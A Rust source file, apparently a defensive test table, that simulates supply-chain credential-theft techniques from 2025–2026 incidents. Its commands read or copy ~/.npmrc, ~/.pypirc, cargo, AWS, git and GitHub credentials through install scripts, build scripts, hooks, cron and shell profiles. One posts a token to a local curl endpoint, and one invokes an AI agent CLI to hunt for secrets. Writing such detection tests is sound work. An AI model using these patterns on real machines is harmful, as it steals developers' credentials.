//! What packages and tools do that were taken over, as in the incidents of 2025 and 2026, without what made them dangerous.

use super::{READ, SWEEP};
use crate::entry::{Context, Entry, theft};

const T: &str = "T1195.002";

pub(super) const TABLE: &[Entry] = &[
    theft(
        "npm-postinstall",
        T,
        READ,
        "an npm package's postinstall reads `~/.npmrc`",
        &["npm"],
        "cd project && npm install --offline --no-audit --no-fund --foreground-scripts $STAGE/thief.tgz",
    ),
    theft(
        "npm-sweep",
        T,
        SWEEP,
        "a postinstall that goes through a home, as Shai-Hulud's did",
        &["npm", "node"],
        "cd project && npm install --offline --no-audit --no-fund --foreground-scripts $STAGE/worm.tgz",
    ),
    theft(
        "npm-sweep-typed",
        T,
        SWEEP,
        "the same after a person's own `npm install`",
        &["npm", "node"],
        "cd project && npm install --offline --no-audit --no-fund --foreground-scripts $STAGE/worm.tgz",
    )
    .only(&[Context::Interactive]),
    theft(
        "npm-prepare",
        T,
        READ,
        "a test script of a project from elsewhere",
        &["npm"],
        "cd project && npm pkg set scripts.test='cat ~/.config/gh/hosts.yml' && npm test",
    ),
    theft(
        "python-build",
        T,
        READ,
        "a Python package's `setup.py` reads `~/.pypirc`",
        &["python3"],
        "mkdir $OUT/p && echo 'import os; open(os.path.expanduser(\"~/.pypirc\")).read()' >$OUT/p/setup.py && cd $OUT/p && python3 setup.py",
    ),
    theft(
        "cargo-script",
        T,
        READ,
        "a crate's build script reads cargo's credentials",
        &["cargo"],
        "cd project/rust && echo 'fn main() { let h = std::env::var(\"HOME\").unwrap(); let _ = std::fs::read(h + \"/.cargo/credentials.toml\"); }' >build.rs && cargo build --offline",
    ),
    theft(
        "make-target",
        T,
        READ,
        "a Makefile",
        &["make"],
        "printf 'all:\\n\\tcat ~/.aws/credentials >$(OUT)/loot\\n' >$OUT/Makefile && make -f $OUT/Makefile",
    ),
    theft(
        "git-hook",
        T,
        READ,
        "a hook of a repository",
        &["git"],
        "cd project && printf '#!/bin/sh\\ncat ~/.git-credentials >/dev/null\\n' >.git/hooks/post-checkout && chmod +x .git/hooks/post-checkout && git checkout -q -b other",
    ),
    theft(
        "shell-profile",
        "T1546.004",
        READ,
        "a line in a profile that every shell reads",
        &["bash"],
        "echo 'cat ~/.npmrc >/dev/null' >>.bash_profile && bash -lc true",
    ),
    theft(
        "editor-extension",
        T,
        READ,
        "an editor's extension",
        &["node"],
        "mkdir -p .vscode/extensions/a.b-1 && echo 'require(\"fs\").readFileSync(process.env.HOME + \"/.config/gh/hosts.yml\")' >.vscode/extensions/a.b-1/x.js && node .vscode/extensions/a.b-1/x.js",
    ),
    theft(
        "ai-cli",
        T,
        SWEEP,
        "an AI agent on the victim's machine is told to look for secrets, as the `nx` packages of August 2025 did",
        &["node"],
        "node $STAGE/lib/node_modules/@anthropic-ai/claude-code/cli.js",
    ),
    theft(
        "workflow-step",
        T,
        READ,
        "a step that was added to a workflow posts what it finds, as in GhostAction",
        &["curl"],
        "curl -s --max-time 1 -d \"t=$(cat .npmrc)\" http://127.0.0.1:9/ || true",
    ),
    theft(
        "cron-copy",
        "T1053.003",
        READ,
        "a job of cron that copies a store every night",
        &["cp"],
        "cp .aws/credentials $OUT/loot",
    )
    .only(&[Context::Cron]),
    theft(
        "typed-copy",
        "T1552.001",
        READ,
        "somebody at the terminal copies a store",
        &["cp"],
        "cp .config/gh/hosts.yml $OUT/loot",
    )
    .only(&[Context::Interactive]),
];
